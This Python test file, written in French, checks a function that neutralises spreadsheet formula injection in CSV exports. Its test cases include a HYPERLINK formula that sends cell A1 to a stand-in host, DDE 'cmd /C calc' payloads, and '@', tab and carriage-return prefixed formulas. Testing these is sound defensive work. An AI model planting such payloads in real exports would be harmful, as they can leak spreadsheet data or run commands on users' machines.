"""Les cellules des exports : aucune ne peut devenir une formule dans un tableur."""

import io

import pytest

from guichet import tableurs

PIEGE = '=HYPERLINK("https://exemple.invalid/?v="&A1;"Cliquez")'


@pytest.mark.parametrize(
    ("valeur", "attendu"),
    [
        (PIEGE, "'" + PIEGE),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("France services de Tulle", "France services de Tulle"),
        ("-12,5", "-12,5"),
        ("+33 (0)5 55 00 00 00", "+33 (0)5 55 00 00 00"),
        ("", ""),
        (42, 42),
        (None, None),
    ],
)
def test_neutraliser(valeur, attendu):
    assert tableurs.neutraliser(valeur) == attendu


def test_ecrivains_csv():
    sortie = io.StringIO()
    tableurs.EcrivainCsv(sortie, delimiter=";").writerows([["Nom", PIEGE], ["x", 3]])
    assert sortie.getvalue().splitlines()[0] == 'Nom;"\'=HYPERLINK(""https://exemple.invalid/?v=""&A1;""Cliquez"")"'
    sortie = io.StringIO()
    ecrivain = tableurs.EcrivainCsvDict(sortie, fieldnames=["nom"], lineterminator="\n")
    ecrivain.writeheader()
    ecrivain.writerows([{"nom": "@x"}])
    assert sortie.getvalue() == "nom\n'@x\n"
